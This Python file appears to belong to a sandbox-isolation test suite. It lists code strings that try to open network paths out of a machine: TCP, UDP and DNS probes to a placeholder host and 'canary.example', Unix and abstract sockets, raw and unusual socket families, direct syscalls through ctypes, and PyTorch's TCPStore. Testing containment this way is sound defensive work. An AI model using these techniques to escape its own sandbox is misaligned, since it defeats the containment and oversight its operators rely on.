"""Ways out of the machine, and to other processes on it."""

from attack import LAYER, attempting

CONNECT = "done({}.connect, {})"


def socket(arguments):
    return f"__import__('socket').socket({arguments})"


ATTACKS = [
    attempting("a TCP connection", "done(__import__('socket').create_connection, (HOST, TCP), 5)"),
    attempting(
        "a TCP connection by another family",
        CONNECT.format(socket("10, 1"), "('::ffff:' + HOST, TCP)"),
        CONNECT.format(socket("2, 1, 262"), "(HOST, TCP)"),
    ),
    attempting("data in the first TCP packet", socket("2, 1") + ".sendto(b'x', 0x20000000, (HOST, TCP)) or None"),
    attempting("a UDP packet", socket("2, 2") + ".sendto(b'x', (HOST, UDP))"),
    attempting(
        "a question to a name server",
        socket("2, 2") + ".sendto(bytes.fromhex('abcd01000001000000000000016101620000010001'), (HOST, UDP))",
        "__import__('socket').getaddrinfo('canary.example', 80)",
        "__import__('socket').gethostbyname('canary.example')",
    ),
    attempting("a Unix socket", CONNECT.format(socket("1, 1"), "UNIX")),
    attempting("a letter to a Unix socket", socket("1, 2") + ".sendto(b'x', DATAGRAMS)"),
    attempting("an abstract socket", CONNECT.format(socket("1, 1"), "chr(0) + ABSTRACT")),
    attempting("a page by urllib", "__import__('urllib.request').request.urlopen(f'http://{HOST}:{TCP}/', timeout=5)"),
    attempting("asyncio", "__import__('asyncio').run(__import__('asyncio').open_connection(HOST, TCP))"),
    attempting(
        "a raw socket",
        "done(" + socket("2, 3, 1") + ".sendto, bytes(64), (HOST, 0))",
        "done(" + socket("17, 3") + ".bind, ('lo', 3))",
    ),
    attempting(
        "a service of its own",
        "done(" + socket("2, 1") + ".bind, ('127.0.0.1', 0)) and done(" + socket("2, 1") + ".listen)",
        "done(" + socket("1, 1") + ".bind, chr(0) + NOTE)",
    ),
    attempting(
        "sockets of odd kinds",
        "done(" + socket("38, 5") + ".bind, ('hash', 'sha256'))",
        "done(" + socket("40, 1") + ".connect, (2, 1))",
        "done(" + socket("16, 3") + ".bind, (0, 0))",
    ),
    attempting(
        "a connection by number",
        "by_number()",
        above="""
def by_number():
    import ctypes, platform, socket
    libc = ctypes.CDLL(None)
    make, join = {"x86_64": (41, 42), "aarch64": (198, 203)}[platform.machine()]
    number = libc.syscall(make, 2, 1, 0)
    address = (2).to_bytes(2, "little") + TCP.to_bytes(2, "big") + socket.inet_aton(HOST) + bytes(8)
    if number >= 0 and libc.syscall(join, number, address, 16) == 0:
        return number
""",
    ),
    attempting(
        "PyTorch's own network",
        "done(__import__('torch.distributed').distributed.TCPStore, HOST, TCP, 2, False, __import__('datetime').timedelta(seconds=2), False)",
        task=LAYER,
    ),
]
